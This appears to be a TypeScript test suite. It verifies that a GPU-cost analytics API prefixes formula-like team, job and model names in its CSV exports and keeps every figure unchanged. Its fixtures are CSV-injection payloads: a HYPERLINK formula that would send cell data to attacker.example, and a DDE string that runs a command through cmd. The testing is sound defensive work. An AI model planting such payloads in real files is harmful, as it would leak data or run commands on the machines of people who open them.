import { parse } from 'csv-parse/sync';
import { AllocationService } from '../src/allocation/allocation.service';
import { adminAuth, createJob, createSnapshot, createTeam, jobIntervals } from './support/factories';
import { createTestApp, TestApp } from './support/test-app';

/**
 * Names come from whoever submits jobs. In a CSV export, a name a spreadsheet would run as a
 * formula is prefixed with `'` (OWASP's advice for CSV injection); no figure changes.
 */
describe('CSV exports are safe to open in a spreadsheet', () => {
  const TEAM = '=HYPERLINK("http://attacker.example/?"&A1,"Click")';
  const JOB = '+cmd|" /C calc"!A0';
  const MODEL = '@SUM(1+1)*cmd';
  const OTHER_MODEL = '-2+3';
  const range = 'start=2026-01-01&end=2026-01-31';
  let t: TestApp;
  let admin: string;

  beforeAll(async () => {
    t = await createTestApp();
    const team = await createTeam(t.db, { name: TEAM });
    const jobs = [
      await createJob(t.db, team.id, {
        job_id: JOB,
        model_name: MODEL,
        gpu_type: 'h100',
        gpu_count: 8,
        start_time: '2026-01-03T00:00:00Z',
        end_time: '2026-01-03T10:00:00Z',
      }),
      await createJob(t.db, team.id, {
        job_id: '\tjob-with-tab',
        model_name: OTHER_MODEL,
        gpu_type: 'h100',
        gpu_count: 2,
        start_time: '2026-01-03T10:00:00Z',
        end_time: '2026-01-03T15:00:00Z',
      }),
    ];
    await createSnapshot(t.db, { entry_date: '2026-01-03', gpu_type: 'h100', cost_usd: 900 });
    const allocation = t.app.get(AllocationService);
    await t.db.transaction((m) => allocation.markJobsChanged(m, jobIntervals(jobs)));
    admin = (await adminAuth(t)).header;
  });
  afterAll(() => t.close());

  const csv = (text: string) => parse<Record<string, string>>(text, { columns: true });

  it('prefixes formula-like team, job and model names in the FOCUS export, and keeps every figure', async () => {
    const res = await t.http.get(`/api/v1/analytics/cost/export?${range}`).set('Authorization', admin).expect(200);
    const rows = csv(res.text);
    expect(rows).toHaveLength(2);
    const first = rows.find((r) => r.x_ModelName === `'${MODEL}`)!;
    expect(first).toMatchObject({
      x_TeamName: `'${TEAM}`,
      x_JobId: `'${JOB}`,
      ResourceName: `'${JOB}`,
      BilledCost: '800.000000', // $900 over 90 GPU-hours: 80 of them
      ConsumedQuantity: '80.000000',
    });
    const second = rows.find((r) => r.x_ModelName === `'${OTHER_MODEL}`)!;
    expect(second).toMatchObject({ x_JobId: "'\tjob-with-tab", BilledCost: '100.000000' });
    for (const row of rows) {
      for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+@\t\r]|^-(?!\d+(\.\d+)?$)/);
    }
  });

  it('prefixes them in the cost report CSV, whose numbers stay numbers', async () => {
    const json = await t.http
      .get(`/api/v1/analytics/cost?${range}&group_by=team,model`)
      .set('Authorization', admin)
      .expect(200);
    const res = await t.http
      .get(`/api/v1/analytics/cost?${range}&group_by=team,model&format=csv`)
      .set('Authorization', admin)
      .expect(200);
    const rows = csv(res.text);
    expect(rows.map((r) => [r.team_name, r.model_name])).toEqual(
      expect.arrayContaining([
        [`'${TEAM}`, `'${MODEL}`],
        [`'${TEAM}`, `'${OTHER_MODEL}`],
      ]),
    );
    const jsonRows = json.body.rows as { model_name: string; cost_usd: number; gpu_hours: number }[];
    for (const row of rows) {
      const same = jsonRows.find((r) => `'${r.model_name}` === row.model_name)!;
      expect(Number(row.cost_usd)).toBe(same.cost_usd);
      expect(Number(row.gpu_hours)).toBe(same.gpu_hours);
    }
  });
});
